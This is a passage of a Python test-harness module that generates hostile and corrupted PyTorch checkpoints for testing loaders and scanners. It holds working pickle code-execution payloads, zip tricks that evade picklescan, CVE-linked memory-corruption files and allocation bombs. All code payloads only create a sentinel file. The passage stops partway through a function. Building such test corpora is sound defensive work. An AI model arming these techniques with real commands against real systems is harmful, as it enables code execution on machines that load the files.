"""Strategies for hostile and malformed checkpoints.

Every payload's only effect, should a loader run it, is to create a sentinel file at a path
the caller chooses; nothing is destructive and nothing touches the network. A payload is
plain data (:class:`HostilePayload`, an attack class name and a carrier) and writes a real
torch checkpoint (a zip archive, except ``legacy_tar`` and the legacy carrier) that
otherwise looks like a training checkpoint. A :class:`Corruption` names one way of damaging
a valid checkpoint (truncating it, flipping a byte, resizing a storage record) and applies it
to the bytes torch wrote.

Each attack class is one :class:`Attack` record in :data:`ATTACK_REGISTRY`: its group (code
payloads, memory attacks, allocation bombs), what the file holds, how it is written and in
which carriers (every pickle-level class also in the legacy non-zip format that
``_use_new_zipfile_serialization=False`` writes), what a loader that accepts it has let
happen, and the advisory it stands for. The table of attack classes in ``docs/catalog.md``
is generated from the registry (``python -m harness.catalog``); memory attacks and
allocation bombs create no sentinel: loading them at all is what goes wrong.
"""

from __future__ import annotations

import builtins
import functools
import io
import os
import pickle
import struct
import subprocess
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import torch
from hypothesis import event
from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument

from strategies._arguments import check_choice, check_type

__all__ = [
    "ATTACK_CLASSES",
    "ATTACK_GROUPS",
    "ATTACK_REGISTRY",
    "Attack",
    "BOMB_CLASSES",
    "CARRIERS",
    "HOSTILE_CLASSES",
    "LEGACY_CARRIED_CLASSES",
    "MEMORY_ATTACK_CLASSES",
    "CORRUPTION_KINDS",
    "Corruption",
    "HostilePayload",
    "PickledCall",
    "allocation_bombs",
    "attack",
    "corruptions",
    "hostile_files",
    "hostile_payloads",
    "memory_attacks",
    "valid_checkpoint_bytes",
]


class PickledCall:
    """Pickles as a call of ``function(*arguments)``: what a crafted ``__reduce__`` does."""

    def __init__(self, function, *arguments):
        self.function = function
        self.arguments = arguments

    def __reduce__(self):
        return self.function, self.arguments


class SetStateSentinel:
    """A class whose ``__setstate__`` creates the file named by its state: the stand-in for
    a library class with side effects on unpickling, reached through ``NEWOBJ`` + ``BUILD``."""

    def __setstate__(self, state: str) -> None:
        open(state, "w").close()


def _creates(sentinel: str) -> str:
    return f"open({sentinel!r}, 'w').close()"


# A tiny expression language for hand-written pickles: each node pushes exactly one object.
@dataclass(frozen=True)
class _Global:
    module: str
    name: str


@dataclass(frozen=True)
class _StackGlobal:
    module: str
    name: str


@dataclass(frozen=True)
class _Apply:
    function: Any
    arguments: tuple


@dataclass(frozen=True)
class _Opcode:
    """Raw opcodes that push one object (INST, OBJ, NEWOBJ + BUILD, BINPERSID)."""

    parts: tuple


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _emit(node: Any) -> bytes:
    if isinstance(node, bytes):
        return b"B" + struct.pack("<I", len(node)) + node
    if isinstance(node, str):
        return _unicode(node)
    if isinstance(node, bool):
        return b"\x88" if node else b"\x89"
    if isinstance(node, int):
        if -(2**31) <= node < 2**31:
            return b"J" + struct.pack("<i", node)
        data = node.to_bytes((node.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(data)]) + data
    if isinstance(node, tuple):
        return b"(" + b"".join(_emit(item) for item in node) + b"t"
    if isinstance(node, _Global):
        return b"c" + f"{node.module}\n{node.name}\n".encode()
    if isinstance(node, _StackGlobal):
        return _unicode(node.module) + _unicode(node.name) + b"\x93"
    if isinstance(node, _Apply):
        return _emit(node.function) + _emit(node.arguments) + b"R"
    if isinstance(node, _Opcode):
        return b"".join(part if isinstance(part, bytes) else _emit(part) for part in node.parts)
    raise TypeError(f"cannot emit {node!r}")


_MARKER = "@@payload-goes-here@@"


def _checkpoint(payload: Any) -> dict:
    return {
        "epoch": 1,
        "model_state_dict": {"weight": torch.zeros(2, 2)},
        "model_config": payload,
    }


def _rewrite_zip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """The zip ``data`` with the records whose names end with a key of ``replace`` replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            for suffix, new in replace.items():
                if info.filename.endswith("/" + suffix):
                    content = new
            target.writestr(info.filename, content)
    return out.getvalue()


def _spliced(node: Any, legacy: bool = False) -> bytes:
    """A checkpoint whose ``model_config`` entry is the hand-written pickle of ``node``; in the
    legacy format (one uncompressed stream of pickles) when ``legacy``."""
    data = _saved(_checkpoint(_MARKER), legacy)
    if legacy:
        return data.replace(_unicode(_MARKER), _emit(node), 1)
    pickled = zipfile.ZipFile(io.BytesIO(data)).read(_data_pkl(data))
    pickled = pickled.replace(_unicode(_MARKER), _emit(node), 1)
    return _rewrite_zip(data, {"data.pkl": pickled})


def _saved(obj: Any, legacy: bool = False) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def _carried(entry: Any, legacy: bool) -> bytes:
    """A checkpoint whose ``model_config`` entry is ``entry``: a hand-written pickle node,
    spliced in, or an object that ``torch.save`` pickles."""
    if isinstance(entry, _Global | _StackGlobal | _Apply | _Opcode):
        return _spliced(entry, legacy)
    return _saved(_checkpoint(entry), legacy)


def _exec_call(code: str) -> _Apply:
    return _Apply(_Global("builtins", "exec"), (code,))


def _runpy_script(sentinel: str) -> str:
    return sentinel + ".script.py"


# Pickle-level attacks: each builds the ``model_config`` entry (an object torch pickles, or a
# hand-written pickle node) that :func:`_carried` puts into a zip or legacy checkpoint.


def _reduce_run_path(sentinel: str) -> PickledCall:
    import runpy

    return PickledCall(runpy.run_path, _runpy_script(sentinel))


def _reduce_import_module(sentinel: str) -> _Apply:
    system = _Apply(
        _Global("builtins", "getattr"),
        (_Apply(_Global("importlib", "import_module"), ("os",)), "system"),
    )
    return _Apply(system, (f"touch '{sentinel}'",))


def _getattr_chain(sentinel: str) -> _Apply:
    module = _Apply(_Global("operator", "getitem"), (_Global("sys", "modules"), "builtins"))
    exec_ = _Apply(_Global("builtins", "getattr"), (module, "exec"))
    return _Apply(exec_, (_creates(sentinel),))


def _stack_global(sentinel: str) -> _Apply:
    return _Apply(_StackGlobal("builtins", "exec"), (_creates(sentinel),))


def _inst_os_system(sentinel: str) -> _Opcode:
    return _Opcode((b"(", f"touch '{sentinel}'", b"ios\nsystem\n"))


def _obj_exec(sentinel: str) -> _Opcode:
    return _Opcode((b"(", _Global("builtins", "exec"), _creates(sentinel), b"o"))


def _newobj_build_setstate(sentinel: str) -> _Opcode:
    cls = _Global(SetStateSentinel.__module__, SetStateSentinel.__qualname__)
    return _Opcode((cls, (), b"\x81", sentinel, b"b"))


def _persistent_id(sentinel: str) -> _Opcode:
    return _Opcode(((_exec_call(_creates(sentinel)), "module", "0"), b"Q"))


def _nested_torch_load(sentinel: str) -> PickledCall:
    inner = _saved(_checkpoint(PickledCall(builtins.open, sentinel, "w")))
    load = functools.partial(torch.load, weights_only=False)
    return PickledCall(load, PickledCall(io.BytesIO, inner))


def _numpy_object_array(sentinel: str) -> Any:
    import numpy

    array = numpy.empty(2, dtype=object)
    array[0] = PickledCall(builtins.open, sentinel, "w")
    array[1] = 0
    return array


class _ScriptedSetState(torch.nn.Module):
    """A module whose TorchScript ``__setstate__`` creates the file named by ``path``."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.mapped = torch.zeros(1, dtype=torch.uint8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        # Kept in an attribute: TorchScript drops an unused call as dead code.
        self.mapped = torch.from_file(self.path, shared=True, size=1, dtype=torch.uint8)


def _torchscript_archive(sentinel: str) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # torch.jit is deprecated in 2.x
        torch.jit.save(torch.jit.script(_ScriptedSetState(sentinel)), buffer)
    return buffer.getvalue()


def _data_pkl(data: bytes) -> zipfile.ZipInfo:
    return next(
        info
        for info in zipfile.ZipFile(io.BytesIO(data)).infolist()
        if info.filename.endswith("/data.pkl")
    )


def _zip_hostile(sentinel: str) -> bytes:
    """The payload the zip tricks hide: one every scanner compared here flags when it is
    not hidden (``reduce_os_system``)."""
    return _saved(_checkpoint(PickledCall(os.system, f"touch '{sentinel}'")))


def _zip_duplicate_member(sentinel: str) -> bytes:
    hostile = _zip_hostile(sentinel)
    benign = _saved(_checkpoint("model"))
    hostile_pickle = zipfile.ZipFile(io.BytesIO(hostile)).read(_data_pkl(hostile))
    source = zipfile.ZipFile(io.BytesIO(benign))
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
            if info.filename.endswith("/data.pkl"):
                target.writestr(info.filename, hostile_pickle)
    return out.getvalue()


def _zip_header_mismatch(sentinel: str) -> bytes:
    data = _zip_hostile(sentinel)
    name_start = _data_pkl(data).header_offset + 30  # the local header's fixed part
    name_length = struct.unpack("<H", data[name_start - 4 : name_start - 2])[0]
    name_end = name_start + name_length
    return data[: name_end - 1] + b"X" + data[name_end:]  # .../data.pkl -> .../data.pkX


def _zip_encrypted_flag(sentinel: str) -> bytes:
    data = _zip_hostile(sentinel)
    flags_at = _data_pkl(data).header_offset + 6  # general purpose flags of the local header
    (flags,) = struct.unpack("<H", data[flags_at : flags_at + 2])
    return data[:flags_at] + struct.pack("<H", flags | 0x1) + data[flags_at + 2 :]


def _legacy_tar(sentinel: str) -> bytes:
    payload = {"epoch": 1, "model_config": PickledCall(os.system, f"touch '{sentinel}'")}
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2),
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps(payload, protocol=2),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _write_runpy_script(sentinel: str) -> None:
    with open(_runpy_script(sentinel), "w") as script:
        script.write(_creates(sentinel) + "\n")


# 2**38 float32 elements: a terabyte declared by a file of a few hundred bytes.
_BOMB_ELEMENTS = 2**38


def _zeros_bomb(sentinel: str) -> bytes:
    return _saved(_checkpoint(PickledCall(torch.zeros, _BOMB_ELEMENTS)))


def _storage_size_bomb(sentinel: str) -> bytes:
    storage = _Opcode(
        (("storage", _Global("torch", "FloatStorage"), "0", "cpu", _BOMB_ELEMENTS), b"Q")
    )
    ordered = _Apply(_Global("collections", "OrderedDict"), ())
    arguments = (storage, 0, (_BOMB_ELEMENTS,), (1,), False, ordered)
    return _spliced(_Apply(_Global("torch._utils", "_rebuild_tensor_v2"), arguments))


def _tensor_shape_bomb(sentinel: str) -> bytes:
    storage = _Opcode((("storage", _Global("torch", "FloatStorage"), "0", "cpu", 4), b"Q"))
    ordered = _Apply(_Global("collections", "OrderedDict"), ())
    shape = (2**20, 2**20, 2**20)
    arguments = (storage, 0, shape, (2**40, 2**20, 1), False, ordered)
    return _spliced(_Apply(_Global("torch._utils", "_rebuild_tensor_v2"), arguments))


# CVE-2026-24747. storage_record_short: a record of 4 bytes declared as 64 float32 elements
# (256 bytes). setitem_out_of_bounds: declared as 2**44 elements; SETITEM sets the last one,
# 64 TiB past the record: an address no process has, so an accepting loader dies there and
# then (SIGSEGV) instead of corrupting its heap in a way that shows up later, or never.
_SHORT_DECLARED_ELEMENTS = 64
_FAR_DECLARED_ELEMENTS = 2**44


def _tensor_on_storage_0(elements: int) -> _Apply:
    """A float32 tensor of ``elements`` over the checkpoint's storage record 0."""
    storage = _Opcode((("storage", _Global("torch", "FloatStorage"), "0", "cpu", elements), b"Q"))
    ordered = _Apply(_Global("collections", "OrderedDict"), ())
    arguments = (storage, 0, (elements,), (1,), False, ordered)
    return _Apply(_Global("torch._utils", "_rebuild_tensor_v2"), arguments)


def _memory_attack(declared: int, record_elements: int, set_element: int | None) -> bytes:
    """A checkpoint whose weight is a float32 tensor of ``declared`` elements over storage
    record 0, which holds ``record_elements`` (written by torch for the ``model_config``
    entry, a tensor sharing that record); ``SETITEM`` then sets the weight's element
    ``set_element`` to 7, when given."""
    buffer = io.BytesIO()
    checkpoint = {"epoch": 1, "model_state_dict": {"weight": _MARKER}}
    torch.save({**checkpoint, "model_config": torch.zeros(record_elements)}, buffer)
    data = buffer.getvalue()
    node = _tensor_on_storage_0(declared)
    if set_element is not None:
        node = _Opcode((node, set_element, 7, b"s"))
    pickled = zipfile.ZipFile(io.BytesIO(data)).read(_data_pkl(data))
    return _rewrite_zip(data, {"data.pkl": pickled.replace(_unicode(_MARKER), _emit(node), 1)})


# --- the registry ---------------------------------------------------------------------------

#: What an attack class is: ``"code"`` (the file runs code, whose only effect is to create the
#: sentinel), ``"memory"`` (loading the file writes into tensors or reads past their storage
#: records) or ``"bomb"`` (the file declares a huge allocation). Memory attacks and bombs
#: create no sentinel: loading them at all is what goes wrong.
ATTACK_GROUPS = ("code", "memory", "bomb")
CARRIERS = ("zip", "legacy")
_CODE_HARM = "ran the payload's code"
_BOMB_HARM = "allocated what the file declares"


@dataclass(frozen=True)
class Attack:
    """Everything known about one attack class, registered once in :data:`ATTACK_REGISTRY`.

    Exactly one of ``entry`` and ``archive`` writes the file.

    Attributes:
        name: the attack class, as :class:`HostilePayload` names it.
        group: one of :data:`ATTACK_GROUPS`.
        description: what the file holds and how it attacks the loader (for the catalog).
        harm: what a loader that accepts the file has let happen, in a few words (for a code
            payload: what happened if its sentinel appeared).
        entry: for a pickle-level class, the checkpoint's ``model_config`` entry given the
            sentinel path: an object ``torch.save`` pickles, or a hand-written pickle node
            spliced in. It is carried in a zip checkpoint and in the legacy format.
        archive: for any other class, the bytes of the whole file given the sentinel path (a
            zip checkpoint, or the class's own archive).
        prepare: what the payload needs beside the file, written next to the sentinel
            before the file (``reduce_runpy_run_path``'s script); None when nothing.
        corrupts_memory: whether a loader that accepts the file writes outside the memory it
            allocated: such a load may crash only later, so it belongs in a process of its own.
        advisory: the advisory, CVE or scanner bypass report the class stands for; empty
            where it stands for none.
    """

    name: str
    group: str
    description: str
    harm: str
    entry: Callable[[str], Any] | None = None
    archive: Callable[[str], bytes] | None = None
    prepare: Callable[[str], None] | None = None
    corrupts_memory: bool = False
    advisory: str = ""

    def __post_init__(self) -> None:
        check_choice(self.group, ATTACK_GROUPS, name="group")
        if (self.entry is None) == (self.archive is None):
            raise InvalidArgument(f"attack {self.name!r} needs exactly one of entry and archive")

    @property
    def carriers(self) -> tuple[str, ...]:
        """The formats the class comes in: a pickle-level class in both of :data:`CARRIERS`,
        any other in its own file only (``"zip"``)."""
        return CARRIERS if self.entry is not None else CARRIERS[:1]

    @property
    def creates_sentinel(self) -> bool:
        """Whether running the payload creates the sentinel (the code group)."""
        return self.group == "code"

    def checkpoint(self, sentinel: str, carrier: str = "zip") -> bytes:
        """The bytes of the hostile file, in ``carrier`` (one of :attr:`carriers`)."""
        if self.entry is not None:
            return _carried(self.entry(sentinel), legacy=carrier == "legacy")
        return self.archive(sentinel)

    def pickle_stream(self, sentinel: str) -> bytes:
        """A plain pickle (protocol 2, what ``pickle.dump`` of a checkpoint dictionary
        writes) whose ``model_config`` entry is this pickle-level class's payload."""
        if self.entry is None:
            raise InvalidArgument(f"attack {self.name!r} is not pickle-level: no pickle stream")
        entry = self.entry(sentinel)
        if isinstance(entry, _Global | _StackGlobal | _Apply | _Opcode):
            template = pickle.dumps({"epoch": 1, "model_config": _MARKER}, protocol=2)
            return template.replace(_unicode(_MARKER), _emit(entry), 1)
        return pickle.dumps({"epoch": 1, "model_config": entry}, protocol=2)


def _code(name: str, description: str, **fields: Any) -> Attack:
    return Attack(name, "code", description, _CODE_HARM, **fields)


#: Every attack class, simplest first within each group (code, memory, bomb): the order in
#: which the strategies draw them and the matrix lists them.
ATTACK_REGISTRY: tuple[Attack, ...] = (
    _code(
        "reduce_open",
        "`__reduce__` to `open` on the sentinel",
        entry=lambda sentinel: PickledCall(builtins.open, sentinel, "w"),
    ),
    _code(
        "reduce_eval",
        "`__reduce__` to `eval` of code that creates the sentinel",
        entry=lambda sentinel: PickledCall(builtins.eval, _creates(sentinel)),
    ),
    _code(
        "reduce_exec",
        "`__reduce__` to `exec` of code that creates the sentinel",
        entry=lambda sentinel: PickledCall(builtins.exec, _creates(sentinel)),
    ),
    _code(
        "reduce_os_system",
        "`__reduce__` to `os.system` running `touch`",
        entry=lambda sentinel: PickledCall(os.system, f"touch '{sentinel}'"),
    ),
    _code(
        "reduce_subprocess",
        "`__reduce__` to `subprocess.call` running `touch`",
        entry=lambda sentinel: PickledCall(subprocess.call, ["touch", sentinel]),
    ),
    _code(
        "reduce_runpy_run_path",
        "`__reduce__` to `runpy.run_path` on a script written next to the sentinel",
        entry=_reduce_run_path,
        prepare=_write_runpy_script,
    ),
    _code(
        "reduce_import_module",
        'hand-written `getattr(importlib.import_module("os"), "system")(...)`',
        entry=_reduce_import_module,
        advisory="deny-list gaps: a callable reached without naming it",
    ),
    _code(
        "getattr_chain",
        '`getattr(operator.getitem(sys.modules, "builtins"), "exec")(...)`: no dangerous '
        "name appears as a global",
        entry=_getattr_chain,
        advisory="deny-list gaps: a callable reached without naming it",
    ),
    _code(
        "stack_global",
        "`builtins.exec` looked up with the protocol-4 `STACK_GLOBAL` opcode inside a "
        "protocol-2 stream",
        entry=_stack_global,
        advisory="picklescan: `STACK_GLOBAL` with a memo the scanner does not follow "
        "(mmaitre314/picklescan#22; the opcode, not the memo trick)",
    ),
    _code(
        "inst_os_system",
        "the `INST` opcode on `os.system`",
        entry=_inst_os_system,
    ),
    _code(
        "obj_exec",
        "the `OBJ` opcode on `builtins.exec`",
        entry=_obj_exec,
    ),
    _code(
        "newobj_build_setstate",
        "`NEWOBJ` + `BUILD` on a class whose `__setstate__` creates a file",
        entry=_newobj_build_setstate,
    ),
    _code(
        "persistent_id",
        "a persistent id that is not a storage, carrying an `exec` call",
        entry=_persistent_id,
    ),
    _code(
        "nested_torch_load",
        "`torch.load(weights_only=False)` (a `functools.partial`) called on a second, "
        "embedded hostile checkpoint",
        entry=_nested_torch_load,
    ),
    _code(
        "numpy_object_array",
        "a numpy array of `dtype=object` holding a `__reduce__` payload",
        entry=_numpy_object_array,
    ),
    _code(
        "torchscript_archive",
        "a `torch.jit.save` archive whose TorchScript `__setstate__` creates the sentinel "
        "with `torch.from_file(..., shared=True)`",
        archive=_torchscript_archive,
        advisory="CVE-2025-32434: `torch.load(weights_only=True)` ran a TorchScript archive "
        "through `torch.jit.load` (torch <= 2.5.1)",
    ),
    _code(
        "zip_duplicate_member",
        "two `data.pkl` records, a benign one first and the `reduce_os_system` payload last: "
        "torch, like Python's `zipfile`, reads the last; a tool reading the archive front to "
        "back meets the benign one first",
        archive=_zip_duplicate_member,
        advisory="picklescan: a zip archive torch reads and the scanner cannot "
        "(GHSA-7q5r-7gvp-wc82)",
    ),
    _code(
        "zip_header_mismatch",
        "the `reduce_os_system` payload in a `data.pkl` record whose local header names "
        "`data.pkX`: torch reads the record, Python's `zipfile` (and a scanner built on it) "
        "refuses the archive as damaged",
        archive=_zip_header_mismatch,
        advisory="picklescan: a zip archive torch reads and the scanner cannot "
        "(GHSA-7q5r-7gvp-wc82)",
    ),
    _code(
        "zip_encrypted_flag",
        "the `reduce_os_system` payload in a `data.pkl` record whose local header sets the "
        '"encrypted" flag (it is not encrypted; the central directory does not say so)',
        archive=_zip_encrypted_flag,
        advisory="picklescan: a zip flag bit crashes the scanner but not torch "
        "(GHSA-w8jq-xcqf-f792)",
    ),
    _code(
        "legacy_tar",
        "the `reduce_os_system` payload as the `pickle` member of the tar archive torch "
        "wrote before 0.4 (`sys_info`, `storages`, `tensors`, `pickle`), written by hand",
        archive=_legacy_tar,
        advisory="the legacy tar path, closed under `weights_only` in 2.6.0 together with "
        "CVE-2025-32434 (pytorch/pytorch#145020)",
    ),
    Attack(
        "setitem_on_tensor",
        "memory",
        "the weight tensor built by hand and `SETITEM` applied to it: the file's pickle "
        "writes 7 into the weights after they are read",
        harm="the file's pickle wrote into a loaded tensor (SETITEM on a non-dict)",
        archive=lambda sentinel: _memory_attack(4, 4, 0),
        advisory="CVE-2026-24747 / GHSA-63cw-57p8-fm3p, first half: `SETITEM`/`SETITEMS` on "
        "non-dicts in the weights_only unpickler (torch < 2.10.0)",
    ),
    Attack(
        "storage_record_short",
        "memory",
        "a weight declared as 64 float32 elements (256 bytes) over a storage record of 4 "
        "bytes: the tensor covers 252 bytes the file never held",
        harm="a tensor covers 252 bytes beyond its 4-byte storage record",
        archive=lambda sentinel: _memory_attack(_SHORT_DECLARED_ELEMENTS, 1, None),
        advisory="CVE-2026-24747 / GHSA-63cw-57p8-fm3p, second half: storage records of the "
        "wrong size (torch < 2.10.0)",
    ),
    Attack(
        "setitem_out_of_bounds",
        "memory",
        "both halves: a 4-byte record declared as 2**44 elements, and `SETITEM` sets the last "
        "one, 64 TiB past the record, at an address no process has, so an accepting loader "
        "dies then and there instead of corrupting its heap silently",
        harm="the file's pickle wrote 64 TiB past its 4-byte storage record",
        archive=lambda sentinel: _memory_attack(
            _FAR_DECLARED_ELEMENTS, 1, _FAR_DECLARED_ELEMENTS - 1
        ),
        corrupts_memory=True,
        advisory="CVE-2026-24747 / GHSA-63cw-57p8-fm3p, both halves",
    ),
    Attack(
        "zeros_bomb",
        "bomb",
        "`__reduce__` to `torch.zeros(2**38)`",
        harm=_BOMB_HARM,
        archive=_zeros_bomb,
    ),
    Attack(
        "storage_size_bomb",
        "bomb",
        "a storage persistent id declaring 2**38 elements over a 16-byte record",
        harm=_BOMB_HARM,
        archive=_storage_size_bomb,
    ),
    Attack(
        "tensor_shape_bomb",
        "bomb",
        "`_rebuild_tensor_v2` with shape `(2**20,) * 3` over a 4-element storage",
        harm=_BOMB_HARM,
        archive=_tensor_shape_bomb,
    ),
)

_ATTACK = {record.name: record for record in ATTACK_REGISTRY}


def _names(group: str) -> tuple[str, ...]:
    return tuple(record.name for record in ATTACK_REGISTRY if record.group == group)


#: The code-running classes (group ``"code"``).
ATTACK_CLASSES = _names("code")
#: The memory attacks (group ``"memory"``): the two halves of CVE-2026-24747 and both.
MEMORY_ATTACK_CLASSES = _names("memory")
#: The allocation bombs (group ``"bomb"``).
BOMB_CLASSES = _names("bomb")
#: Every attack class, code, memory and bombs.
HOSTILE_CLASSES = ATTACK_CLASSES + MEMORY_ATTACK_CLASSES + BOMB_CLASSES
#: The pickle-level classes, which also come in the legacy (non-zip) format.
LEGACY_CARRIED_CLASSES = tuple(
    record.name for record in ATTACK_REGISTRY if "legacy" in record.carriers
)


def attack(name: str) -> Attack:
    """The record of the attack class ``name`` (one of :data:`HOSTILE_CLASSES`)."""
    check_choice(name, HOSTILE_CLASSES, name="attack")
    return _ATTACK[name]


@dataclass(frozen=True)
class HostilePayload:
    """One attack class (a name in :data:`HOSTILE_CLASSES`) in a carrier; :meth:`write` puts
    it inside a checkpoint.

    Attributes:
        attack: the attack class.
        carrier: ``"zip"`` (the format torch writes by default; an archive-level class is its
            own carrier) or ``"legacy"`` (the non-zip format of
            ``_use_new_zipfile_serialization=False``, for :data:`LEGACY_CARRIED_CLASSES`).

    An unknown attack class or carrier, or a legacy carrier for a class that has none, raises
    :class:`~hypothesis.errors.InvalidArgument` when the payload is made.
    """

    attack: str
    carrier: str = "zip"

    def __post_init__(self) -> None:
        check_choice(self.attack, HOSTILE_CLASSES, name="attack")
        check_choice(self.carrier, CARRIERS, name="carrier")
        if self.carrier not in self.record.carriers:
            raise InvalidArgument(
                f"{self.attack!r} has no {self.carrier} carrier; those that do: "
                f"{list(LEGACY_CARRIED_CLASSES)!r}"
            )

    @property
    def record(self) -> Attack:
        """The attack class's record."""
        return _ATTACK[self.attack]

    @property
    def name(self) -> str:
        """The attack class, and the carrier when it is not the default."""
        return self.attack if self.carrier == "zip" else f"{self.attack} (legacy format)"

    @property
    def creates_sentinel(self) -> bool:
        """Whether running the payload creates the sentinel (false for memory attacks and
        allocation bombs)."""
        return self.record.creates_sentinel

    @property
    def corrupts_memory(self) -> bool:
        """Whether a loader that accepts the file writes outside the memory it allocated: such
        a load may crash only later, so it belongs in a process of its own."""
        return self.record.corrupts_memory

    @property
    def harm(self) -> str:
        """What a loader that accepts the file has let happen, in a few words (for a code
        payload: what happened if its sentinel appeared)."""
        return self.record.harm

    def write(self, path: str | os.PathLike, sentinel: str | os.PathLike) -> None:
        """Write a torch checkpoint at ``path`` whose unpickling creates ``sentinel``.

        A class that needs more than the file (``reduce_runpy_run_path``: the script it runs)
        writes it next to ``sentinel`` (:attr:`Attack.prepare`).
        """
        sentinel = os.fspath(sentinel)
        if self.record.prepare is not None:
            self.record.prepare(sentinel)
        data = self.record.checkpoint(sentinel, self.carrier)
        with open(path, "wb") as file:
            file.write(data)


def hostile_payloads() -> st.SearchStrategy[HostilePayload]:
    """Hostile checkpoints, one attack class each, simplest (a ``__reduce__`` to ``open``) first,
    in a zip checkpoint or, for :data:`LEGACY_CARRIED_CLASSES`, in the legacy format too.

    Shrinks toward ``reduce_open`` in a zip checkpoint.
    """
    zipped = st.sampled_from(ATTACK_CLASSES).map(HostilePayload)
    legacy = st.sampled_from(LEGACY_CARRIED_CLASSES).map(lambda a: HostilePayload(a, "legacy"))
    return st.one_of(zipped, legacy).map(_record)


def memory_attacks() -> st.SearchStrategy[HostilePayload]:
    """Checkpoints whose loading writes into tensors or reads past their storage records
    (:data:`MEMORY_ATTACK_CLASSES`)."""
    return st.sampled_from(MEMORY_ATTACK_CLASSES).map(HostilePayload).map(_record)


def allocation_bombs() -> st.SearchStrategy[HostilePayload]:
    """Checkpoints of a few hundred bytes declaring a terabyte (:data:`BOMB_CLASSES`)."""
    return st.sampled_from(BOMB_CLASSES).map(HostilePayload).map(_record)


def hostile_files() -> st.SearchStrategy[HostilePayload]:
    """Code-running payloads, memory attacks and allocation bombs; shrinks toward
    ``reduce_open``."""
    return st.one_of(hostile_payloads(), memory_attacks(), allocation_bombs())


def _record(payload: HostilePayload) -> HostilePayload:
    event(f"attack: {payload.name}")
    return payload


# --- malformed files -------------------------------------------------------------------

CORRUPTION_KINDS = (
    "empty",
    "junk",
    "truncate_at_record",
    "truncate_at_offset",
    "flip_central_directory",
    "flip_data_pkl",
    "flip_storage",
    "resize_storage",
)


@functools.cache
def valid_checkpoint_bytes() -> bytes:
    """The valid checkpoint every :class:`Corruption` starts from: two tensors, a view
    sharing the first one's storage, and a few plain values."""
    weight = torch.arange(12, dtype=torch.float32).reshape(3, 4)
    checkpoint = {
        "epoch": 3,
        "name": "model",
        "model_state_dict": {"weight": weight, "row": weight[1], "bias": torch.ones(4)},
        "steps": [1, 2, 3],
    }
    return _saved(checkpoint)


def _record_offsets(data: bytes) -> list[tuple[str, int, int]]:
    """``(name, start of local header, start of content)`` of each record, in file order."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    found = []
    for info in archive.infolist():
        start = info.header_offset
        name_length, extra_length = struct.unpack("<HH", data[start + 26 : start + 30])
        found.append((info.filename, start, start + 30 + name_length + extra_length))
    return found


def _central_directory(data: bytes) -> int:
    """Where the zip's central directory starts, as its end record says."""
    end = data.rfind(b"PK\x05\x06")
    (start,) = struct.unpack("<I", data[end + 16 : end + 20])
    return start if start != 0xFFFFFFFF else data.find(b"PK\x01\x02")


def _flip(data: bytes, position: int, mask: int) -> bytes:
    position %= len(data)
    return data[:position] + bytes([data[position] ^ mask]) + data[position + 1 :]


@dataclass(frozen=True)
class Corruption:
    """One way of damaging :func:`valid_checkpoint_bytes`.

    Attributes:
        kind: one of :data:`CORRUPTION_KINDS`.
        index: which record, byte or offset, taken modulo the number there are.
        mask: the bits flipped (``flip_*``), or the bytes added or removed (``resize_storage``,
            removing when odd); 0 to 255.

    An unknown kind, or an index or mask out of range, raises
    :class:`~hypothesis.errors.InvalidArgument` when the corruption is made.
    """

    kind: str
    index: int = 0
    mask: int = 1

    def __post_init__(self) -> None:
        check_choice(self.kind, CORRUPTION_KINDS, name="kind")
        for name, high in (("index", None), ("mask", 0xFF)):
            value = getattr(self, name)
            check_type(value, int, name=name, example="1")
            if isinstance(value, bool) or value < 0 or (high is not None and value > high):
                bound = f"from 0 to {high}" if high is not None else "of 0 or more"
                raise InvalidArgument(f"{name}={value!r} must be an int {bound}")

    def apply(self, data: bytes) -> bytes:
        """The bytes of ``data`` (a torch zip checkpoint) damaged as this corruption says."""
        records = _record_offsets(data)
        if self.kind == "empty":
            return b""
        if self.kind == "junk":
            return bytes((self.index * 131 + step * self.mask) % 256 for step in range(256))
        if self.kind == "truncate_at_record":
            boundaries = sorted({start for _, start, _ in records} | {_central_directory(data)})
            boundaries += [content for _, _, content in records]
            return data[: boundaries[self.index % len(boundaries)]]
        if self.kind == "truncate_at_offset":
            return data[: self.index % len(data)]
        if self.kind == "flip_central_directory":
            start = _central_directory(data)
            return _flip(data, start + self.index % (len(data) - start), self.mask)
        if self.kind in ("flip_data_pkl", "flip_storage"):
            names = [r for r in records if self._targets(r[0])]
            name, _, content = names[self.index % len(names)]
            size = zipfile.ZipFile(io.BytesIO(data)).getinfo(name).file_size
            return _flip(data, content + (self.index // len(names)) % size, self.mask)
        # resize_storage
        names = [r[0] for r in records if self._targets(r[0])]
